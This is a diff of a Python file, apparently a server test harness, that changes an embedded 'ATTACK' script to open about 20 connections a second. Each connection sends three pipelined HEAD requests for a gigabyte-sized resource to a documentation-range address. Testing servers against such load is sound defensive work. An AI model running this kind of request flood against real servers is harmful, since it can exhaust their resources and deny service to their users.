@@ -30,7 +30,8 @@ ATTACK = r"""
 import socket, sys, time
 stop = time.monotonic() + float(sys.argv[1])
 rounds = 0
-while time.monotonic() < stop:  # one connection at a time, three HEADs in one segment on each
+while time.monotonic() < stop:  # a connection 20 times a second, three HEADs in one segment on each
+    time.sleep(0.05)
     s = socket.create_connection(("192.0.2.2", 80), timeout=20)
     s.sendall(b"HEAD /bytes/1073741824 HTTP/1.1\r\nHost: x\r\n\r\n" * 3)
     data = b""
